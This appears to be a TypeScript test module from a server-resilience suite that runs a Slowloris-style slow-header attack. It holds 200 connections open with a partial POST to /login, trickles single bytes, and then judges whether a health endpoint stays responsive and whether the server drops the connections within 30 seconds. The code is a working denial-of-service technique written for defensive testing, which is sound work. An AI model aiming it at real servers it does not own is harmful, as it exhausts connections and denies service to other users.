import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, control, judged } from '../../attack.ts';
import type { Scene } from '../../scene.ts';

const connections = 200;

/** Seconds after which the server must have given up: 10 s for a head, looked at every 5 s, and as much again for a busy machine. */
const patienceSeconds = 30;

export const attack: Attack = {
  name: 'requests that never end',
  wants: 'All connections of the server, each held by a byte now and then.',
  source: 'CWE-400; Slowloris (2009), R.U.D.Y.; RFC 9112 §9.5',
  async *attempts(scene) {
    const { hostname, port } = new URL(scene.url);
    const sockets = Array.from({ length: connections }, () => connect(Number(port), hostname).on('error', () => {}));
    try {
      for (const socket of sockets) socket.write('POST /login HTTP/1.1\r\nHost: x\r\nX-Slow: ');
      yield* meanwhile(scene, sockets);
      if (!scene.quick) yield await givenUp(sockets);
    } finally {
      for (const socket of sockets) socket.destroy();
    }
  },
};

async function* meanwhile(scene: Scene, sockets: readonly Socket[]) {
  const times: number[] = [];
  for (let round = 0; round < 20; round += 1) {
    for (const socket of sockets) if (!socket.destroyed) socket.write('x');
    const began = performance.now();
    const { status } = await scene.ask('GET', '/livez');
    times.push(performance.now() - began);
    if (status !== 200) yield judged('keeping others out', `answered ${status}`);
    await sleep(50);
  }
  // Who is kept out is kept out each time; a single long wait is a busy machine's.
  const usual = times.sort((a, b) => a - b)[times.length >> 1] ?? Infinity;
  yield judged(`holding ${connections} connections`, usual < 2_000 ? undefined : `/livez mostly took ${usual} ms`);
  const open = sockets.filter(({ destroyed, readyState }) => !destroyed && readyState === 'open').length;
  yield control('the connections were held', open === connections ? undefined : `only ${open} were open`);
}

async function givenUp(sockets: readonly Socket[]) {
  for (let second = 0; second < patienceSeconds; second += 1) {
    for (const socket of sockets) socket.resume();
    if (sockets.every(({ destroyed, readyState }) => destroyed || readyState !== 'open')) break;
    for (const socket of sockets) if (socket.writable) socket.write('x');
    await sleep(1_000);
  }
  const open = sockets.filter(({ destroyed, readyState }) => !destroyed && readyState === 'open').length;
  return judged('holding them for good', open === 0 ? undefined : `${open} are open after ${patienceSeconds} s`);
}
